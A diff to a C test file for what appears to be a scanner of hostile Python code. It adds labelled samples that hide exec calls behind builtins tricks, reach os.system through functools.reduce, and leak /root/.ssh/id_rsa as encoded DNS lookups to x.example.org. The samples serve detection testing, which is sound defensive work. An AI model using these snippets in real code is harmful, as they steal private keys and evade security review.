@@ -176,6 +176,25 @@ static void sees_modules_by_all_doors(void **state)
         {"hidden-code", "import code, zlib\nx = code\nn = 'InteractiveInter'\nn += 'preter'\n"
                         "getattr(x, n)().runcode(zlib.decompress(b''))\n"},
         {"import-network", "from a import b, requests\nn = 'po'\nn += 'st'\ngetattr(requests, n)('http://a.example')\n"},
+        /* the built-in functions, by all ways to their module */
+        {"hidden-code", "import builtins as b\nb.__dict__.get('exec')(__import__('zlib').decompress(b'x'))\n"},
+        {"hidden-code", "import builtins\nbuiltins.__dict__.pop('exec')(__import__('zlib').decompress(b'x'))\n"},
+        {"hidden-code", "import builtins\nbuiltins.__getattribute__('exec')(__import__('zlib').decompress(b'x'))\n"},
+        {"hidden-code", "import builtins\nvars(builtins).get('exec')(__import__('zlib').decompress(b'x'))\n"},
+        {"hidden-code", "__builtins__.get('exec')(__import__('zlib').decompress(b'x'))\n"},
+        {"hidden-code", "__builtins__.__dict__.get('exec')(__import__('zlib').decompress(b'x'))\n"},
+        {"hidden-code", "globals().get('__builtins__').get('exec')(__import__('zlib').decompress(b'x'))\n"},
+        {"hidden-code", "def f(): pass\nf.__builtins__['exec'](__import__('zlib').decompress(b'x'))\n"},
+        {"hidden-code", "import code\ncode.__dict__['__builtins__']['exec'](__import__('zlib').decompress(b'x'))\n"},
+        {"hidden-code", "print.__self__.exec(__import__('zlib').decompress(b'x'))\n"},
+        {"hidden-code", "getattr(len.__self__, 'exec')(__import__('zlib').decompress(b'x'))\n"},
+        {"import-process", "import functools, os\nfunctools.reduce(getattr, ['system'], os)('id')\n"},
+        {"import-process", "import functools, shutil\nfunctools.reduce(getattr, ('os', 'sys' + 'tem'), shutil)('id')\n"},
+        /* a secret stays one in every coding */
+        {"dns-theft", "import socket, base64\nk = base64.b32encode(open('/root/.ssh/id_rsa', 'rb').read()).decode()\n"
+                      "socket.gethostbyname(k[:60] + '.x.example.org')\n"},
+        {"dns-theft", "import socket, zlib\nk = zlib.compress(open('/root/.ssh/id_rsa', 'rb').read()).hex()\n"
+                      "socket.gethostbyname(k[:60] + '.x.example.org')\n"},
         /* what is decoded, into a file of source */
         {"hidden-code", "import zlib\nopen('a/x.py', 'wb').write(zlib.decompress(b'x'))\n"},
         {"hidden-code", "import base64\nopen('a/x.py', 'wb').write(base64.urlsafe_b64decode(b'x'))\n"},
